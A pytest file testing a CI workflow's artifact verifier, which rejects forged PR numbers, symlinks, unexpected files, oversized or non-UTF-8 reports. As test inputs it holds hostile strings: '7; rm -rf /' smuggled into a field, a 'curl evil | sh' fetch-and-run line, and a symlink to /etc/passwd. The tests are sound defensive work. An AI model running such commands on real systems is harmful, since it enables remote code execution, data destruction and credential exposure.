"""The comment workflow's artifact checks, fed with hostile artifacts.

The CLI is run the way the workflow runs it: the system `python3` with only `src` on the path,
no project environment.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from gitops.actions.artifact import (
    MAX_REPORT_CHARS,
    ArtifactError,
    comment_body,
    confirm_pull,
    verify_artifact,
)
from gitops.review.marker import has_marker
from runner import Runner
from support import ROOT

HEAD = "c0ffee" + "0" * 34
REPORT = "## Model report\n\n| metric | base | PR |\n|---|---|---|\n| ROC AUC | 0.95 | 0.96 |\n"
PYTHON3 = shutil.which("python3", path="/usr/bin:/usr/local/bin") or "python3"


def artifact(root: Path, *, meta: object = None, report: str | bytes | None = REPORT) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    if meta is None:
        meta = {"schema": 1, "event": "pull_request", "pr_number": 7, "head_sha": HEAD}
    (root / "ci_metadata.json").write_text(meta if isinstance(meta, str) else json.dumps(meta))
    if isinstance(report, str):
        (root / "pr_report.md").write_text(report)
    elif isinstance(report, bytes):
        (root / "pr_report.md").write_bytes(report)
    (root / "pr_report.json").write_text('{"gates": "pass"}')
    return root


def test_a_well_formed_artifact_is_accepted(tmp_path: Path) -> None:
    verified = verify_artifact(artifact(tmp_path / "a"), run_head_sha=HEAD)
    assert (verified.pr_number, verified.head_sha, verified.report) == (7, HEAD, REPORT)


@pytest.mark.parametrize(
    ("pr_number", "why"),
    [
        ("7", "string"),
        (7.0, "float"),
        (-1, "negative"),
        (0, "zero"),
        (True, "bool"),
        (2**40, "huge"),
        ("7; rm -rf /", "injection"),
        (None, "null"),
    ],
)
def test_pr_number_must_be_a_positive_integer(tmp_path: Path, pr_number: object, why: str) -> None:
    meta = {"event": "pull_request", "pr_number": pr_number, "head_sha": HEAD}
    with pytest.raises(ArtifactError, match="pr_number"):
        verify_artifact(artifact(tmp_path / why, meta=meta), run_head_sha=HEAD)


@pytest.mark.parametrize(
    ("meta", "message"),
    [
        ({"event": "pull_request", "pr_number": 7, "head_sha": "b" * 40}, "not the commit"),
        ({"event": "pull_request", "pr_number": 7, "head_sha": HEAD.upper()}, "head_sha"),
        ({"event": "push", "pr_number": 7, "head_sha": HEAD}, "event"),
        ("[1, 2]", "JSON object"),
        ("{not json", "not valid JSON"),
    ],
)
def test_metadata_must_describe_the_run_github_reported(
    tmp_path: Path, meta: object, message: str
) -> None:
    with pytest.raises(ArtifactError, match=message):
        verify_artifact(artifact(tmp_path / "a", meta=meta), run_head_sha=HEAD)


def test_the_report_limit_counts_characters_not_bytes(tmp_path: Path) -> None:
    persian = "گزارش مدل 🚀 " * (MAX_REPORT_CHARS // 12)  # 12 characters, 26 UTF-8 bytes
    assert len(persian) <= MAX_REPORT_CHARS < len(persian.encode())
    verified = verify_artifact(artifact(tmp_path / "a", report=persian), run_head_sha=HEAD)
    assert verified.report == persian
    assert verified.too_long is None


def test_an_over_long_report_becomes_a_note_that_links_the_run(tmp_path: Path) -> None:
    root = artifact(tmp_path / "a", report="🚀" * (MAX_REPORT_CHARS + 1))
    verified = verify_artifact(root, run_head_sha=HEAD)
    assert (verified.report, verified.too_long) == (None, MAX_REPORT_CHARS + 1)
    url = "https://github.com/acme/churn/actions/runs/4242"
    body = comment_body(verified, conclusion="success", run_url=url)
    assert f"{MAX_REPORT_CHARS + 1:,} characters long, over GitHub's 65,536" in body
    assert url in body
    assert has_marker(body)


def test_oversized_artifact_is_refused(tmp_path: Path) -> None:
    root = artifact(tmp_path / "a")
    (root / "pr_report.json").write_bytes(b"0" * 2_000_000)
    with pytest.raises(ArtifactError, match="in all"):
        verify_artifact(root, run_head_sha=HEAD)


def test_report_must_be_utf8(tmp_path: Path) -> None:
    with pytest.raises(ArtifactError, match="UTF-8"):
        verify_artifact(artifact(tmp_path / "a", report=b"\xff\xfe bad"), run_head_sha=HEAD)


@pytest.mark.parametrize("name", ["evil.sh", ".github", "pr_report.md.bak", "CI_METADATA.JSON"])
def test_unexpected_files_are_refused(tmp_path: Path, name: str) -> None:
    root = artifact(tmp_path / "a")
    (root / name).write_text("#!/bin/sh\n")
    with pytest.raises(ArtifactError, match="unexpected file"):
        verify_artifact(root, run_head_sha=HEAD)


def test_symlinks_are_refused(tmp_path: Path) -> None:
    root = artifact(tmp_path / "a", report=None)
    (root / "pr_report.md").symlink_to("/etc/passwd")
    with pytest.raises(ArtifactError, match="symbolic link"):
        verify_artifact(root, run_head_sha=HEAD)


def test_a_symlinked_artifact_folder_is_refused(tmp_path: Path) -> None:
    real = artifact(tmp_path / "real")
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(ArtifactError, match="plain folder"):
        verify_artifact(tmp_path / "link", run_head_sha=HEAD)


def test_nested_folders_are_refused(tmp_path: Path) -> None:
    root = artifact(tmp_path / "a")
    (root / "pr_report.md").unlink()
    (root / "pr_report.md").mkdir()
    (root / "pr_report.md" / "x").write_text("x")
    with pytest.raises(ArtifactError, match="nested folders"):
        verify_artifact(root, run_head_sha=HEAD)


def test_special_files_are_refused(tmp_path: Path) -> None:
    root = artifact(tmp_path / "a", report=None)
    os.mkfifo(root / "pr_report.md")
    with pytest.raises(ArtifactError, match="not a regular file"):
        verify_artifact(root, run_head_sha=HEAD)


def test_missing_metadata_is_refused(tmp_path: Path) -> None:
    root = artifact(tmp_path / "a")
    (root / "ci_metadata.json").unlink()
    with pytest.raises(ArtifactError, match="missing"):
        verify_artifact(root, run_head_sha=HEAD)


def test_a_run_that_failed_before_the_report_gets_a_short_note(tmp_path: Path) -> None:
    verified = verify_artifact(artifact(tmp_path / "a", report=None), run_head_sha=HEAD)
    body = comment_body(verified, conclusion="failure", run_url="https://example.invalid/run/1")
    assert "finished with **failure** before the report was written" in body
    assert "https://example.invalid/run/1" in body
    assert has_marker(body), "the next run must find and update this comment"


def test_a_report_of_a_failed_run_says_so_above_the_report(tmp_path: Path) -> None:
    verified = verify_artifact(artifact(tmp_path / "a"), run_head_sha=HEAD)
    url = "https://example.invalid/run/2"
    assert comment_body(verified, conclusion="success", run_url=url) == REPORT
    body = comment_body(verified, conclusion="failure", run_url=url)
    assert body.startswith("> [!WARNING]\n> The CI run finished with **failure**")
    assert body.endswith(REPORT)


def pull(number: int = 7, sha: str = HEAD, repo: str = "fork/churn", state: str = "open") -> dict:
    return {"number": number, "state": state, "head": {"sha": sha, "repo": {"full_name": repo}}}


def test_confirm_posts_only_when_the_pr_head_is_the_tested_commit() -> None:
    kwargs = {"pr_number": 7, "head_sha": HEAD, "head_repo": "fork/churn"}
    assert confirm_pull(pull(), **kwargs)[0] is True
    post, reason = confirm_pull(pull(sha="d" * 40), **kwargs)
    assert post is False
    assert "moved on" in reason
    assert confirm_pull(pull(state="closed"), **kwargs) == (
        False,
        "PR #7 is closed; no comment posted",
    )


@pytest.mark.parametrize(
    ("answer", "message"),
    [(pull(repo="someone/else"), "comes from someone/else"), (pull(number=8), "not #7")],
)
def test_confirm_refuses_a_forged_pr_number(answer: dict, message: str) -> None:
    with pytest.raises(ArtifactError, match=message):
        confirm_pull(answer, pr_number=7, head_sha=HEAD, head_repo="fork/churn")


def cli(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    env = {**env, "PYTHONPATH": str(ROOT / "src"), "PATH": "/usr/bin:/bin"}
    return subprocess.run(
        [PYTHON3, "-m", "gitops.actions.artifact", *args],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )


def test_cli_verifies_and_sets_outputs_without_the_project_env(
    tmp_path: Path, runner: Runner
) -> None:
    job = runner.for_event("workflow_run", {})
    env = job.env
    root = artifact(tmp_path / "artifact")
    comment = tmp_path / "comment.md"
    args = ["verify", "--dir", str(root), "--head-sha", HEAD, "--comment", str(comment)]
    proc = cli([*args, "--conclusion", "success"], env)
    assert proc.returncode == 0, proc.stderr
    assert comment.read_text() == REPORT
    outputs = (job.tmp / "output.txt").read_text().splitlines()
    assert outputs == ["pr=7", f"head_sha={HEAD}"]


def test_cli_rejects_hostile_artifact_and_writes_no_comment(tmp_path: Path, runner: Runner) -> None:
    job = runner.for_event("workflow_run", {})
    env = job.env
    root = artifact(tmp_path / "artifact")
    (root / "payload.sh").write_text("curl evil | sh")
    comment = tmp_path / "comment.md"
    proc = cli(["verify", "--dir", str(root), "--head-sha", HEAD, "--comment", str(comment)], env)
    assert proc.returncode == 2
    assert "'payload.sh': unexpected file" in proc.stderr
    assert not comment.exists()
    assert (job.tmp / "output.txt").read_text() == ""
    assert "Artifact rejected" in job.summary


def test_cli_will_not_write_the_comment_into_the_artifact(tmp_path: Path, runner: Runner) -> None:
    root = artifact(tmp_path / "artifact")
    args = ["verify", "--dir", str(root), "--head-sha", HEAD, "--comment", str(root / "c.md")]
    proc = cli(args, runner.for_event("workflow_run", {}).env)
    assert proc.returncode == 2
    assert "outside the artifact" in proc.stderr
